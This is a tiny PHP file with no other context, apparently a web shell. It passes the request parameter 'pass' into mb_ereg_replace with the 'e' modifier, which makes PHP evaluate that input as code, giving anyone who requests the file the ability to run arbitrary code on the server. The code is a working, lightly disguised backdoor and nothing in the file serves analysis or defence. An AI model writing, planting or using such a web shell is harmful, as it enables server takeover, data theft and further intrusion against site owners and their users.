<?php
mb_regex_encoding('UTF-8');
mb_ereg_replace('.*', $_REQUEST['pass'], '', 'e');
